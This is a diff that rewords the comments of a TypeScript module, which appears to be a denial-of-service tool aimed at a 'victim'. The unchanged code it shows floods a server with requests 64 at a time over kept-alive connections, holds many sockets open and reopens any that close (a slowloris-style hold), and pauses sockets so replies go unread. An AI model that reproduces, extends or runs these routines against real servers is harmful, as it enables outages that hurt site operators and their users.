@@ -8,14 +8,14 @@ export interface Attack {
   /** The public id of a guest. */
   readonly victim: string;
   isOver(): boolean;
-  /** Notes an answer; 0 stands for a connection that failed. */
+  /** Records the status of an answer. 0 means a failed connection. */
   note(status: number): void;
 }
 
 const CONCURRENT = 64;
 const agent = new Agent({ keepAlive: true, maxSockets: CONCURRENT });
 
-/** Call after call as fast as they are answered, 64 at a time, until `next` has none. */
+/** Sends calls as fast as they are answered, 64 at a time, until `next` returns null. */
 export async function flatOut(attack: Attack, next: () => Call | null): Promise<void> {
   const repeat = async () => {
     for (let due = next(); due && !attack.isOver(); due = next()) attack.note(await call(attack.url, due));
@@ -35,8 +35,8 @@ function call(url: URL, { method = 'GET', path, headers = {}, body }: Call): Pro
 }
 
 /**
- * Holds `count` connections, each of which says its own text and is kept by `hold`; a connection that is closed is
- * opened again.
+ * Keeps `count` connections open. Each sends its own text, and then `hold` takes over. A closed connection is opened
+ * again.
  */
 export async function holdSockets(
   attack: Attack,
@@ -63,13 +63,13 @@ export async function holdSockets(
   for (const socket of sockets) socket.destroy();
 }
 
-/** Reads what comes, and notes the status of the first answer. */
+/** Reads everything, and records the status of the first answer. */
 export function readOn(attack: Attack, socket: Socket): void {
   socket.once('data', (bytes) => attack.note(Number(/^HTTP\/1\.1 (\d+)/.exec(String(bytes))?.[1] ?? 0)));
   socket.resume();
 }
 
-/** Takes nothing of the answer. */
+/** Reads nothing of the answer. */
 export function readNothing(socket: Socket): void {
   socket.pause();
 }
